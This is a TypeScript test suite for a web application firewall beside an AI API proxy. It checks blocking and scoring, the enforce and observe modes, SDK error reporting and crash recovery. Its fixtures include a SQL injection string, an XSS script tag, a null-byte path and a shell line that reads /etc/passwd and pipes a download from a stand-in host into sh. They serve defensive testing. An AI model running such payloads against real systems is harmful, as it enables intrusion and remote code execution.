/** The firewall beside the proxy: what it blocks, what it only scores, and how it fails. */
import assert from 'node:assert/strict'
import { spawnSync } from 'node:child_process'
import { APIError as AnthropicError } from '@anthropic-ai/sdk'
import { APIError } from 'openai'
import { request } from 'undici'
import { FIREWALL, needs } from '../support/needs.js'
import { endedExchanges, NAME, originCa, until } from '../support/proxied.js'
import { startOrigin } from '../support/origins.js'
import type { Origin } from '../support/origins.js'
import { anthropicSdk, openaiSdk } from '../support/sdk.js'
import { firewallOf } from '../support/waf.js'
import type { Firewall } from '../support/waf.js'
import { HTTP_VERSIONS, Yori } from '../support/yori.js'
import type { HttpVersion, Row } from '../support/yori.js'

const ENFORCE = {
  mode: 'enforce',
  enforcement: { enabled: true, consent_accepted: true },
}
const ANTHROPIC = 'api.anthropic.com'

/** Measured with the engine alone, asked by the examples of its handbook: each of these rules. */
const INJECTION = "1' OR '1'='1"
const SHELL = 'fix my bash: cat /etc/passwd | grep root; curl http://x.example/a.sh | sh'

interface House extends AsyncDisposable {
  readonly yori: Yori
  readonly origin: Origin
  readonly firewall: Firewall
  readonly asked: string[]
  rows: number
}

async function house(config: Record<string, unknown>): Promise<House> {
  const asked: string[] = []
  const certificate = originCa.issue({ names: [NAME, ANTHROPIC] })
  const origin = await startOrigin({
    certificate,
    handler: (incoming, response) => {
      incoming.resume().on('end', () => {
        asked.push(incoming.url ?? '')
        response.setHeader('content-type', 'application/json')
        response.end('{"id":"x","object":"chat.completion","choices":[],"content":[]}')
      })
    },
  })
  const yori = await Yori.start({
    origins: { [NAME]: origin, [ANTHROPIC]: origin },
    trust: [originCa],
    config,
  })
  const firewall = await firewallOf(yori)
  return {
    ...{ yori, origin, firewall, asked, rows: 0 },
    async [Symbol.asyncDispose]() {
      await firewall[Symbol.asyncDispose]()
      await yori[Symbol.asyncDispose]()
      await origin[Symbol.asyncDispose]()
    },
  }
}

function noteOf(row: Row): string {
  return `${row['policy_message']} ${row['reason']}`
}

describe('the firewall', () => {
  let enforcing: House
  let observing: House

  before(async function () {
    needs(this, ...FIREWALL)
    const waf = { enabled: true, timeout_ms: 5_000 }
    enforcing = await house({ ...ENFORCE, waf })
    observing = await house({ mode: 'observe', waf })
  })
  after(async () => {
    await enforcing?.[Symbol.asyncDispose]()
    await observing?.[Symbol.asyncDispose]()
  })

  beforeEach(() => {
    enforcing.asked.length = 0
  })

  async function lastRow(of: House): Promise<Row> {
    const rows = await endedExchanges(of.yori, of.rows + 1)
    of.rows = rows.length
    return rows.at(-1) as Row
  }

  async function send(
    of: House,
    version: HttpVersion,
    path: string,
    more: { headers?: Record<string, string>; body?: unknown } = {},
  ) {
    const answer = await request(`https://${NAME}${path}`, {
      method: more.body === undefined ? 'GET' : 'POST',
      dispatcher: of.yori.dispatcher(undefined, version),
      headers: {
        'user-agent': 'a test',
        accept: '*/*',
        ...(more.body === undefined ? {} : { 'content-type': 'application/json' }),
        ...more.headers,
      },
      ...(more.body === undefined ? {} : { body: JSON.stringify(more.body) }),
    })
    const text = await answer.body.text()
    return { status: answer.statusCode, text, row: await lastRow(of) }
  }

  for (const version of HTTP_VERSIONS)
    describe(`for a client of ${version}`, () => {
      it('blocks an attack in a query, in the shape of the client, and says by which rule', async () => {
        const path = `/v1/models?id=${encodeURIComponent(INJECTION)}`
        const { status, text, row } = await send(enforcing, version, path)
        assert.equal(status, 403)
        assert.match(text, /942100/)
        assert.match(noteOf(row), /rules [^;]*942100/)
        assert.match(noteOf(row), /tags [^;]*attack-sqli/)
        assert.match(noteOf(row), /crs 3\.\d+\.\d+.*score \d+ of 5.*942100 in ARGS:id/)
        assert.equal(row['policy_name'], 'waf')
        assert.equal(
          enforcing.asked.some((url) => url.includes('OR')),
          false,
        )
      })

      it('lets it pass in observe, and the row says that it would block', async () => {
        const path = `/v1/models?id=${encodeURIComponent(INJECTION)}`
        const { status, row } = await send(observing, version, path)
        assert.equal(status, 200)
        assert.equal(row['policy_decision'], 'deny')
        assert.match(noteOf(row), /942100/)
      })

      it('blocks one in a field and in a path', async () => {
        const headers = { 'user-agent': '<script>alert(1)</script>' }
        const first = await send(enforcing, version, '/v1/models', { headers })
        assert.equal(first.status, 403)
        assert.match(noteOf(first.row), /941110 in REQUEST_HEADERS:user-agent/)
        const second = await send(enforcing, version, '/v1/files/%00')
        assert.equal(second.status, 403)
        assert.match(noteOf(second.row), /920270/)
      })

      it('names the rule that counts, and none that is only noted', async () => {
        const path = `/v1/models?id=${encodeURIComponent(INJECTION)}`
        const headers = { 'content-type': 'application/x-of-my-own' }
        const more = { headers, body: {} }
        const { status, text, row } = await send(enforcing, version, path, more)
        assert.equal(status, 403)
        assert.match(noteOf(row), /920420 in/)
        assert.match(text, /rule 942100 in ARGS:id/)
        assert.doesNotMatch(text, /920420/)
      })

      it('scores a prompt, and lets it pass', async () => {
        const messages = [{ role: 'user', content: SHELL }]
        const body = { model: 'gpt-4o', messages }
        const path = '/v1/chat/completions'
        const { status, row } = await send(enforcing, version, path, { body })
        assert.equal(status, 200)
        assert.equal(row['policy_decision'], 'allow')
        // Each of them was seen when the engine was asked about such a prompt directly.
        for (const rule of ['930120', '932100'])
          assert.match(noteOf(row), new RegExp(`${rule} in text`))
        assert.match(noteOf(row), /text score \d\d/)
      })

      it('tells an OpenAI SDK of a block for what a tool is called with', async () => {
        const { yori } = enforcing
        const openai = openaiSdk({ dispatcher: yori.dispatcher(undefined, version) })
        const asking = (args: object) =>
          openai.chat.completions.create({
            model: 'gpt-4o',
            messages: [
              {
                role: 'assistant',
                tool_calls: [
                  {
                    ...{ id: 'call_1', type: 'function' },
                    function: { name: 'find', arguments: JSON.stringify(args) },
                  },
                ],
              },
              { role: 'tool', tool_call_id: 'call_1', content: 'nothing' },
            ],
          })
        await assert.rejects(asking({ where: INJECTION }), (error: unknown) => {
          assert.ok(error instanceof APIError)
          assert.match(error.message, /942100/)
          return true
        })
        assert.match(noteOf(await lastRow(enforcing)), /942100 in ARGS:json\.find\.where/)
        // Code and prose by their nature give a score, however a program writes the name.
        for (const name of ['command', 'newString', 'old-text', 'description', 'body']) {
          await asking({ [name]: INJECTION })
          assert.match(noteOf(await lastRow(enforcing)), /942100 in text/, name)
        }
      })

      it('tells an Anthropic SDK the same, and neither in observe', async () => {
        const asking = ({ yori }: House) =>
          anthropicSdk({
            dispatcher: yori.dispatcher(undefined, version),
          }).messages.create({
            ...{ model: 'claude-sonnet-4-0', max_tokens: 10 },
            messages: [
              {
                role: 'assistant',
                content: [
                  {
                    type: 'tool_use',
                    id: 't1',
                    name: 'find',
                    input: { where: INJECTION },
                  },
                ],
              },
              {
                role: 'user',
                content: [{ type: 'tool_result', tool_use_id: 't1', content: 'none' }],
              },
            ],
          })
        await assert.rejects(asking(enforcing), (error: unknown) => {
          assert.ok(error instanceof AnthropicError)
          assert.match(error.message, /942100/)
          return true
        })
        assert.match(noteOf(await lastRow(enforcing)), /942100 in ARGS:json\.find\.where/)
        await asking(observing)
        const row = await lastRow(observing)
        assert.equal(row['policy_decision'], 'deny')
        assert.match(noteOf(row), /942100/)
      })

      it('is shown no credentials', async () => {
        const headers = { cookie: `a=${INJECTION}`, authorization: `Bearer ${INJECTION}` }
        const { status, row } = await send(enforcing, version, '/v1/models', { headers })
        assert.equal(status, 200)
        assert.equal(row['policy_message'], null)
      })
    })

  it('scores what is in the middle of a long text after the answer', async () => {
    const filler = 'all is well. '.repeat(3000)
    const messages = [{ role: 'user', content: `${filler}${SHELL}${filler}` }]
    const body = { model: 'gpt-4o', messages }
    const { status, row } = await send(enforcing, 'h1', '/v1/chat/completions', { body })
    assert.equal(status, 200)
    assert.equal(row['policy_message'], null)
    const found = () =>
      enforcing.firewall.events.find(
        ({ kind, details }) =>
          kind === 'waf_scored' && details['requestId'] === row['request_id'],
      )
    await until(() => found() !== undefined)
    assert.ok((found()?.details['rules'] as number[]).includes(930_120))
  })

  it('is started again when it was killed, and traffic goes on meanwhile', async () => {
    const { firewall } = enforcing
    const first = firewall.pid
    const path = `/v1/models?id=${encodeURIComponent(INJECTION)}`
    // As often as it is back before it was asked.
    await until(async () => {
      if (firewall.keeper.state.state === 'running') process.kill(firewall.pid, 'SIGKILL')
      await until(() => firewall.keeper.state.state === 'down')
      const { status, row } = await send(enforcing, 'h1', path)
      if (status !== 200) return false
      assert.match(noteOf(row), /waf (?:cannot be reached|went away)/)
      return true
    })
    await until(() => firewall.keeper.state.state === 'running')
    assert.notEqual(firewall.pid, first)
    await until(async () => (await send(enforcing, 'h1', path)).status === 403)
    assert.ok(firewall.keeper.state.restarts > 0)
  })

  it('is ended where it hangs, and goes on', async function () {
    needs(this, 'Linux')
    const { firewall } = observing
    const { pid } = firewall
    process.kill(pid, 'SIGSTOP')
    const { status } = await send(observing, 'h1', '/v1/models')
    assert.equal(status, 200)
    await until(() => firewall.keeper.state.restarts === 1)
    await until(() => firewall.keeper.state.state === 'running')
    assert.notEqual(firewall.pid, pid)
  })

  it('is started again when it has no memory, and by its fail mode nothing passes meanwhile', async function () {
    needs(this, 'Linux', 'prlimit')
    const waf = { enabled: true, fail_mode: 'closed' }
    await using strict = await house({ ...ENFORCE, waf })
    const { firewall } = strict
    const { pid } = firewall
    assert.equal((await send(strict, 'h1', '/v1/models')).status, 200)
    const limit = ['--pid', String(pid), '--as=1048576:1048576']
    assert.equal(spawnSync('prlimit', limit).status, 0)
    const content = 'x'.repeat(4_000_000)
    const body = { model: 'gpt-4o', messages: [{ role: 'user', content }] }
    const starved = await send(strict, 'h1', '/v1/chat/completions', { body })
    assert.notEqual(starved.status, 200)
    await until(() => firewall.keeper.state.restarts === 1)
    await until(() => firewall.keeper.state.state === 'running')
    await until(async () => (await send(strict, 'h1', '/v1/models')).status === 200)
  })
})
